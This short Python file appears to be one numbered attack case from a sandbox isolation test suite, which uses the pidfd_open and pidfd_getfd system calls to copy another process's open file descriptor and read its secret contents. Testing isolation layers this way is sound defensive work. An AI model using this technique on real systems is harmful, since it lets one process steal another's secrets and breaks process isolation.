# A7: takes a copy of another process's open file
# Without layers: may succeed
import sys

PIDFD_OPEN, PIDFD_GETFD = 434, 438  # the same on every architecture


def attack(facts):
    system, libc = sys.modules["os"], sys.modules["ctypes"].CDLL(None)
    process = libc.syscall(PIDFD_OPEN, facts["victim"], 0)
    descriptor = libc.syscall(PIDFD_GETFD, process, facts["secret_descriptor"], 0)
    return system.pread(descriptor, 100, 0).decode()
